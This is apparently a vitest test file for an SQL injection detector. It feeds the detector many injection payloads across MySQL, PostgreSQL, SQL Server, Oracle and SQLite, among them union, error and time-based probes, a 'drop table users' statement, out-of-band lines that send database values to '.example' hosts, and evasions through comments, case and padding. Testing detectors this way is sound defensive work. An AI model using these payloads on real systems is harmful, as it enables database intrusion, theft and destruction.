import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cpuMs } from '../../testing/cpu-time.js';
import { classify } from '../../values/character-classes.js';
import type { DetectContext, Detection } from '../check.js';
import { sqli } from './sqli.js';

const CONTEXT: DetectContext = { source: 'qs_values', path: 'q', steps: [], executables: new Set() };

function detect(text: string): Detection | undefined {
  return sqli.applies(classify(text)) ? sqli.detect(text, CONTEXT) : undefined;
}

function certainty(text: string): string {
  return detect(text)?.certainty ?? 'none';
}

function fixture(name: string): string[] {
  return readFileSync(join(__dirname, 'fixtures', name), 'utf8')
    .split('\n')
    .filter((line) => line !== '' && !line.startsWith('// '))
    .map((line) => JSON.parse(`"${line}"`) as string);
}

describe('sqli: fixtures', () => {
  it.each(fixture('attacks.txt'))('blocks %j', (text) => {
    expect(certainty(text)).toBe('certain');
  });
  it.each(fixture('benign.txt'))('passes %j', (text) => {
    expect(certainty(text)).not.toBe('certain');
  });
});

/** Where a value can stand: what a sender writes before and after the technique's own text. */
const POSITIONS = [
  { name: 'a number', before: '1', after: '' },
  { name: 'a number in brackets', before: '1)', after: ' and (1=1' },
  { name: 'a name to sort by', before: '(1)', after: '' },
  { name: 'a single-quoted string', before: "x'", after: " and '1'='1" },
  { name: 'a single-quoted string, the rest hidden', before: "some words'", after: '-- -' },
  { name: 'a string in brackets', before: "x'))", after: " and (('1'='1" },
  { name: 'a pattern', before: "x%'", after: " and '%'='" },
  { name: 'a double-quoted string', before: 'x"', after: ' and "1"="1' },
  { name: 'a string, the rest hidden by MySQL', before: "x'", after: '#' },
] as const;

/** What each dialect offers, as the continuation of an operand. */
const TECHNIQUES = [
  ['boolean, any', ' and 2=2'],
  ['boolean, any', ' or 3>2'],
  ['boolean, a column', ' or length(name)>0'],
  ['boolean, a query', " and (select substr(name,1,1) from users limit 1)='a'"],
  ['union, any', ' union select 1,2,name from users'],
  ['union, Oracle', ' union all select null,banner from v$version'],
  ['union, SQL Server', ' union select name,[type] from master..sysobjects'],
  ['error, MySQL', ' and updatexml(1,concat(0x7e,(select user())),1)'],
  ['error, MySQL', ' and gtid_subset(concat(0x7e,version()),1)'],
  ['error, PostgreSQL', ' and 1=cast((select version()) as numeric)'],
  ['error, PostgreSQL', ' and 1=(select current_database())::int'],
  ['error, SQL Server', ' and 1=convert(int,(select @@version))'],
  ['error, Oracle', ' and 1=ctxsys.drithsx.sn(1,(select user from dual))'],
  ['time, MySQL', ' and sleep(5)=0'],
  ['time, PostgreSQL', ' and 1=(select 1 from pg_sleep(5))'],
  ['time, SQLite', " and 1=like('abcdefg',upper(hex(randomblob(99999999))))"],
  ['time, SQL Server', ' and 1=(select count(*) from sysusers as a,sysusers as b)'],
  ['time, Oracle', " and 1=dbms_pipe.receive_message('a',5)"],
  ['out of band, Oracle', " and utl_http.request('http://'||user||'.example') is not null"],
  ['out of band, MySQL', " and load_file(concat('//',version(),'.example/a')) is null"],
] as const;

const SPACES = [
  '\t',
  '\n',
  '\r\n',
  '\v',
  '\f',
  '\u00a0',
  '/**/',
  '/*x*/',
  '/*!*/',
  '-- x\n',
  '#x\n',
  '/**/\n',
] as const;

const alternating = (text: string): string =>
  [...text].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');

describe.each(POSITIONS)('sqli: in $name', ({ before, after }) => {
  it.each(TECHNIQUES)('%s: %s', (_, technique) => {
    expect(certainty(`${before}${technique}${after}`)).toBe('certain');
  });

  it.each(SPACES)('with %j for each space', (space) => {
    for (const [, technique] of TECHNIQUES) {
      const text = `${before}${technique.replaceAll(' ', space)}${after}`;
      expect([text, certainty(text)]).toEqual([text, 'certain']);
    }
  });

  it('in mixed case', () => {
    for (const [, technique] of TECHNIQUES) {
      const text = `${before}${alternating(technique)}${after}`;
      expect([text, certainty(text)]).toEqual([text, 'certain']);
    }
  });
});

describe('sqli: nothing before or after buys a pass', () => {
  const attacks = ["' or 1=1-- -", "' union select 1,2-- -", "'; drop table users-- -"];
  it.each(['lorem ipsum '.repeat(2_000), '[a] [b] ', '/* x */', '1 1 1 1 1 1 1 1 ', '((((', '"a" '])(
    '%.20j before',
    (padding) => {
      for (const attack of attacks) expect(certainty(padding + attack)).toBe('certain');
    },
  );
  it.each([' '.repeat(100_000), 'x'.repeat(100_000), ` ${'word '.repeat(3)}`])('%.20j after', (padding) => {
    for (const attack of attacks) expect(certainty(attack + padding)).toBe('certain');
  });
  it('nor does the depth of brackets', () => {
    expect(certainty(`1 or ${'('.repeat(20_000)}1=1${')'.repeat(20_000)}`)).toBe('certain');
    expect(certainty(`1' or ${'('.repeat(20_000)}1=1-- -`)).toBe('certain');
  });
  it('nor do the names that the sender chooses', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z][a-z0-9]{7,12}$/), (name) => {
        expect(certainty(`${name}' or ${name}='${name}'-- ${name}`)).toBe('certain');
        expect(certainty(`1 union select ${name},1 from ${name} where ${name}=1`)).toBe('certain');
      }),
    );
  });
});

describe('sqli: a finding explains itself', () => {
  it.each([
    ["abc' or 1=1-- -", 3, 'single-quoted', /condition.*comment hides/],
    ['1 union select 1,2', 0, 'without quotes', /UNION/],
    ["1'; drop table users--", 1, 'single-quoted', /ends the statement/],
    ['x" and sleep(5) and "1"="1', 1, 'double-quoted', /reopens the quote/],
    ['id` union select 1,2-- -', 2, 'backtick', /UNION/],
  ])('%j', (text, start, context, explanation) => {
    const found = detect(text);
    expect(found?.start).toBe(start);
    expect(found?.context).toContain(context);
    expect(found?.explanation).toMatch(explanation);
  });
});

describe('sqli: base64', () => {
  it('of random data may end in a quote and a comment; that alone is no attack', () => {
    const steps = ['base64'] as const;
    expect(sqli.detect("w)x'#", { ...CONTEXT, steps })?.certainty).not.toBe('certain');
    expect(sqli.detect("w)x'#", CONTEXT)?.certainty).toBe('certain');
    expect(sqli.detect("x' or 1=1#", { ...CONTEXT, steps })?.certainty).toBe('certain');
  });
});

describe('sqli: any text', () => {
  const units =
    `' " \` ( ) [ ] ; , . - -- # /* */ /*! \\ @ $$ $ : :: := = < > ! ~ * + || && ? { } % 1 0x1 1.e 1e0 a \n \0`.split(
      ' ',
    );
  const words =
    'or and not select union from where case when end in is null as by order q n like between into if'.split(' ');
  const unit = fc.constantFrom(...units, ...words, ' ', ' ');

  it('is judged without a throw, inside its bounds, and only where the check applies', () => {
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 60 }), (text) => {
        const found = sqli.detect(text, CONTEXT);
        if (found === undefined) return;
        expect(sqli.applies(classify(text))).toBe(true);
        expect(found.start).toBeGreaterThanOrEqual(0);
        expect(found.end).toBeGreaterThanOrEqual(found.start);
        expect(found.end).toBeLessThanOrEqual(text.length);
      }),
      { numRuns: 20_000 },
    );
  });

  const repeated = [
    ...[
      "'",
      "' '",
      '1+',
      '(',
      ',1',
      ';',
      '1;select 1',
      '/**/',
      '/*',
      '/*!',
      '-',
      '--\n',
      '--\r',
      '#\n',
      '\\',
      '$a$',
      '[',
    ],
    ...[
      '1 or ',
      'a.',
      "q'[",
      '1.e ',
      'case when ',
      'not ',
      'select ',
      "' or '",
      '@a ',
      "';",
      '1=1 and ',
      'union select ',
    ],
  ];
  it.each(repeated)('takes time linear in the length of repeated %j', (piece) => {
    const timeMs = (length: number): number => {
      const text = `1'${piece.repeat(length / piece.length)}`;
      const start = cpuMs();
      sqli.detect(text, CONTEXT);
      return cpuMs() - start;
    };
    timeMs(20_000);
    // A million characters take some 30 ms; a quadratic scan takes minutes.
    expect(timeMs(1_000_000)).toBeLessThan(3_000);
  });
});

describe('sqli: a condition that asks for everything', () => {
  const under = (path: string, text: string): boolean =>
    sqli.detect(text, { source: 'qs_values', path, steps: [], executables: new Set() }) !== undefined;

  it('is what services of maps are asked with, under the name of a condition', () => {
    expect(under('where', '1=1')).toBe(false);
    expect(under('layers.where', '1 = 1')).toBe(false);
  });

  it('is none elsewhere, nor with anything more', () => {
    expect(under('id', '1=1')).toBe(true);
    expect(under('where', '1=1 or sleep(5)')).toBe(true);
    expect(under('where', '1=2')).toBe(true);
  });
});
